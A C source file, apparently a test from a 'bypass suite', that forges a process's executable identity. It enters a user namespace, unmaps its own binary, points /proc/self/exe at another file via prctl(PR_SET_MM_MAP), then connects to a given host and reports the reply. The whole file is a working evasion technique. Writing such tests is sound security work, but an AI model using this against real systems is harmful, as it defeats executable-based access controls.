// libforge: the forged-executable attack of the bypass suite. From code in
// this library (not in the executable), it enters a new user namespace,
// unmaps its own executable and points /proc/self/exe at another file with
// prctl(PR_SET_MM_MAP, exe_fd), then connects to the target and talks. It
// never returns: the executable's code is gone.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/prctl.h>

static void say(const char *s) { write(1, s, strlen(s)); }

static void die(const char *what)
{
	char buf[256];
	snprintf(buf, sizeof buf, "error:%s: %s\n", what, strerror(errno));
	say(buf);
	_exit(2);
}

static int stat_fields(unsigned long *v)
{
	// /proc/self/stat fields 26-28 and 45-51 (1-based), after the comm.
	char buf[4096];
	int fd = open("/proc/self/stat", O_RDONLY);
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	if (!p)
		return -1;
	p += 2; // field 3
	int field = 3;
	char *tok = strtok(p, " ");
	while (tok) {
		v[field] = strtoul(tok, NULL, 10);
		field++;
		if (field > 52)
			break;
		tok = strtok(NULL, " ");
	}
	return field > 51 ? 0 : -1;
}

void forge_and_talk(const char *fake_exe, const char *host, int port)
{
	char self[PATH_MAX], line[PATH_MAX + 128];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	if (n <= 0)
		die("readlink self");
	self[n] = 0;

	say("step:unshare\n");
	if (unshare(CLONE_NEWUSER))
		die("unshare user namespace");

	// Unmap every mapping of our own executable: the kernel refuses to
	// change exe_file while the old one is mapped.
	FILE *maps = fopen("/proc/self/maps", "r");
	if (!maps)
		die("maps");
	unsigned long ranges[64][2];
	int nr = 0;
	while (fgets(line, sizeof line, maps) && nr < 64) {
		unsigned long a, b;
		char path[PATH_MAX] = "";
		if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path) >= 2 && strcmp(path, self) == 0) {
			ranges[nr][0] = a;
			ranges[nr][1] = b;
			nr++;
		}
	}
	fclose(maps);

	unsigned long v[64] = {0};
	if (stat_fields(v))
		die("stat");
	int fd = open(fake_exe, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		die("open fake exe");
	say("step:munmap\n");
	for (int i = 0; i < nr; i++)
		munmap((void *)ranges[i][0], ranges[i][1] - ranges[i][0]);

	struct prctl_mm_map m = {
		.start_code = v[26], .end_code = v[27], .start_data = v[45], .end_data = v[46],
		.start_brk = v[47], .brk = (unsigned long)sbrk(0), .start_stack = v[28],
		.arg_start = v[48], .arg_end = v[49], .env_start = v[50], .env_end = v[51],
		.auxv = NULL, .auxv_size = 0, .exe_fd = (unsigned int)fd,
	};
	say("step:prctl\n");
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0))
		die("prctl PR_SET_MM_MAP");
	n = readlink("/proc/self/exe", self, sizeof self - 1);
	self[n > 0 ? n : 0] = 0;
	snprintf(line, sizeof line, "exe:%s\n", self);
	say(line);

	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, host, &sa.sin_addr);
	if (connect(s, (struct sockaddr *)&sa, sizeof sa))
		die("connect");
	write(s, "hello\n", 6);
	char reply[256];
	struct timeval tv = {.tv_sec = 3};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	n = read(s, reply, sizeof reply - 1);
	reply[n > 0 ? n : 0] = 0;
	for (char *c = reply; *c; c++)
		if (*c == '\n')
			*c = 0;
	snprintf(line, sizeof line, "reply:%s\n", reply);
	say(line);
	_exit(0);
}
